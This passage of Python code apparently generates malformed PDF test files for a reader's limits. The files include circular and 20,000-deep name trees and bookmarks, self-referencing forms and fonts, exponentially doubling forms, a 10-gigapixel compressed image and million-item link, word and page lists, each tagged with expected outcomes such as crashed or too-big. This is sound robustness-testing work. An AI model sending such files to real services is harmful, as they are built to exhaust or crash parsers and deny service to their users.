    A negative ``count`` makes the last one lead back to the first.
    """
    file = Chapter(annotations={0: link("/Dest(x)")}).raw()
    first = len(file.bodies) + 1
    for number in range(first + 1, first + abs(count)):
        file.add(entry.format(number))
    file.add(last if count > 0 else entry.format(first))
    root = file.bodies[file.root - 1]
    file.set(file.root, root[:-2] + use.format(first).encode() + b">>")
    return file.data()


_NAMES = ("<</Kids[{0} 0 R {0} 0 R]>>", "<</Names[(x)[4 0 R/Fit]]>>", "/Names<</Dests {} 0 R>>")
_BOOKMARKS = ("<</Title(x)/First {0} 0 R/Next {0} 0 R>>", "<</Title(x)>>", "/Outlines {} 0 R")
_CHAINS: dict[str, tuple[int, tuple[str, str, str]]] = {
    "names-in-a-circle": (-1, _NAMES),
    "names-that-double-40-deep": (40, _NAMES),
    "names-20000-deep": (20_000, _NAMES),
    "bookmarks-in-a-circle": (-3, _BOOKMARKS),
    "bookmarks-20000-deep": (20_000, _BOOKMARKS),
}
for _name, (_count, _parts) in _CHAINS.items():
    KINDS[_name] = (partial(with_chain, _count, *_parts), ("bound",))


def with_picture(form: str, content: bytes) -> bytes:
    """A chapter with a form that may use itself: its number goes into ``form``."""
    file = Chapter().raw()
    number = len(file.bodies) + 1
    file.stream(content, form.format(number))
    paint = file.stream(b"/X Do BT /Z 9 Tf (aa) Tj ET")
    body = file.bodies[page_object(0) - 1]
    body = re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents[\1 %d 0 R]" % paint, body)
    body = body.replace(b"/Resources<<", b"/Resources<</XObject<</X %d 0 R>>" % number)
    file.set(page_object(0), body)
    return file.data()


_ITSELF = f"{_FORM}/Resources<</XObject<</X {{0}} 0 R>>>>"


@kind("bound")
def form_in_a_circle() -> bytes:
    return with_picture(_ITSELF, b"/X Do")


@kind("bound", "crashed", "too-big")
def form_that_doubles_in_a_circle() -> bytes:
    return with_picture(_ITSELF, b"/X Do " * 2)


@kind("bound", "crashed", "too-big")
def form_that_doubles_28_deep() -> bytes:
    file = Chapter().raw()
    first = len(file.bodies) + 1
    for number in range(first + 1, first + 29):
        file.stream(b"/X Do /X Do", _ITSELF.format(number))
    file.stream(b"0 0 9 9 re f", _FORM)
    paint = file.stream(b"/X Do")
    body = file.bodies[page_object(0) - 1]
    body = re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents[\1 %d 0 R]" % paint, body)
    body = body.replace(b"/Resources<<", b"/Resources<</XObject<</X %d 0 R>>" % first)
    file.set(page_object(0), body)
    return file.data()


@kind("bound")
def type_3_font_in_a_circle() -> bytes:
    file = Chapter().raw()
    glyph = file.stream(b"500 0 d0 BT /Z 1 Tf (aa) Tj ET")
    font = file.add("")
    file.set(
        font,
        f"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.001 0 0 .001 0 0]/FirstChar 97"
        f"/LastChar 97/Widths[500]/CharProcs<</a {glyph} 0 R>>/Encoding<</Differences[97/a]>>"
        f"/Resources<</Font<</Z {font} 0 R>>>>>>",
    )
    paint = file.stream(b"BT /Z 9 Tf (aa) Tj ET")
    body = file.bodies[page_object(0) - 1]
    body = re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents[\1 %d 0 R]" % paint, body)
    file.set(page_object(0), body.replace(b"/Font<<", b"/Font<</Z %d 0 R" % font))
    return file.data()


@kind("bound")
def image_of_10_gigapixels() -> bytes:
    extra = "/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode"
    return with_image(zlib.compress(PIXELS), extra, side=100_000)


@kind("too-big")
def more_links_than_a_page_may_have() -> bytes:
    return Chapter(annotations={0: link("/Dest[4 0 R/Fit]") * 20_001}).data()


@kind("too-big")
def million_links() -> bytes:
    return Chapter(annotations={0: link("/Dest[4 0 R/Fit]") * 100_000}).data()


@kind("too-big", "crashed")
def million_words() -> bytes:
    words = b"BT /T 10 Tf 60 600 Td " + b"(aaaa aaaa) Tj 0 -1 Td " * 1_000_000 + b"ET"
    return with_content(zlib.compress(words), "/Filter/FlateDecode")


@kind("too-big", "damaged")
def million_pages() -> bytes:
    file = Chapter().raw()
    file.set(3, "<</Type/Pages/Count 3/Kids[" + "4 0 R " * 100_000 + "]>>")
    return file.data()
